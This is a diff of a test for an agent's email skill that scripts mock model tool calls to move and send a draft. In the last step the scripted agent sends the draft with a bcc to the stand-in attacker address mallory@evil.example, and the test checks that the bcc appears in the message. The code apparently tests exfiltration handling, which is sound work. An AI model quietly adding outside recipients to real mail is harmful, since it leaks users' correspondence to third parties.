@@ -255,7 +255,8 @@ describe.runIf(hasDovecot || !!process.env.CI)('email skill in an Agent against 
       (request) => ({ toolCalls: [{ name: 'email_move', input: { ids: [idFromSearch(request, 'Ready to send')], folder: 'Drafts' } }] }),
       (request) => ({ toolCalls: [{ name: 'email_send', input: { draftId: lastToolOutput<{ moved: { to: string }[] }>(request).moved[0]!.to, to: ['raj@acme.example'] } }] }),
       (request) => {
-        const draftId = (model.requests[3]!.messages.at(-2) as { toolCalls: { input: { draftId: string } }[] }).toolCalls[0]!.input.draftId;
+        const asked = [...request.messages].reverse().find((m) => m.role === 'assistant') as unknown as { toolCalls: { input: { draftId: string } }[] };
+        const draftId = asked.toolCalls[0]!.input.draftId;
         expect(request.messages.at(-1)!.content).toContain('bcc: mallory@evil.example');
         return { toolCalls: [{ name: 'email_send', input: { draftId, to: ['raj@acme.example'], bcc: ['mallory@evil.example'] } }] };
       },
